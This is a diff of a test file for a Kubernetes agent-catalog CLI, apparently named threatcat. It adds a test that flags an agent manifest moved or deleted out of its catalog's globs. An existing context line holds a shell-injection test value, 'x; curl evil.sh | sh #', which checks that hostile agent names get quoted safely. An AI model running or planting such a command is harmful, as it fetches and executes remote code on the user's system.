@@ -9,7 +9,7 @@ import { join } from 'node:path';
 import { git, runCli, tempDir } from '../helpers/fixtures.js';
 import { noKustomize } from '../kustomize/app.js';
 import { uncoveredAgents } from '../../src/analyse/uncovered-agents.js';
-import { APP, commit, diffJson, edit, initRepo, line } from './scenario.js';
+import { APP, CATALOG, commit, convergedRepo, diffJson, edit, initRepo, line } from './scenario.js';
 
 const ROGUE = 'apps/rogue/agent.yaml';
 const ROGUE_AGENT = `apiVersion: kagent.dev/v1alpha2
@@ -147,4 +147,37 @@ test('a hostile agent name is one quoted shell word in the init command the find
   assert.ok(!f.message.includes('\n'));
   assert.match(f.message, /threatcat init --agent 'x; curl evil\.sh \| sh #'\\''/);
   assert.match(f.message, / 'apps\/it is'`/);
+});
+
+test('a change that moves the agent out of its catalog\'s globs is a workload-missing error naming the new file, not a silent "narrowed"', () => {
+  const dir = convergedRepo();
+  mkdirSync(join(dir, 'manifests/agents'), { recursive: true });
+  git(dir, 'mv', 'manifests/agent.yaml', 'manifests/agents/agent.yaml');
+  commit(dir, 'tidy: agents in a folder of their own');
+  const r = diffJson(dir, '--base', 'main', '--head', 'HEAD');
+  const lost = r.out.findings.filter((f) => f.rule === 'workload-missing');
+  assert.deepEqual(
+    lost.map((f) => [f.severity, f.file, f.line]),
+    [['error', CATALOG, line(dir, CATALOG, '    name: k8s-ops')]],
+  );
+  assert.match(
+    lost[0].message,
+    /takes workload Agent agents\/k8s-ops out of the agent's manifests \(manifests\/\*\.yaml\)/,
+  );
+  assert.match(lost[0].message, /now in manifests\/agents\/agent\.yaml:\d+/);
+  // The gate fails, as validate does on the same commit: the catalog would follow nothing of the agent from now on.
+  assert.equal(r.code, 1);
+  assert.equal(runCli(['validate', '-C', dir]).code, 1);
+
+  // Deleted rather than moved: the same error, without a file to name.
+  git(dir, 'rm', '-q', 'manifests/agents/agent.yaml');
+  commit(dir, 'agent retired');
+  const gone = diffJson(dir, '--base', 'main', '--head', 'HEAD').out.findings.filter(
+    (f) => f.rule === 'workload-missing',
+  );
+  assert.equal(gone.length, 1);
+  assert.match(
+    gone[0].message,
+    /If the agent moved, list its new file in agent\.manifests; if it is gone, retire the catalog/,
+  );
 });
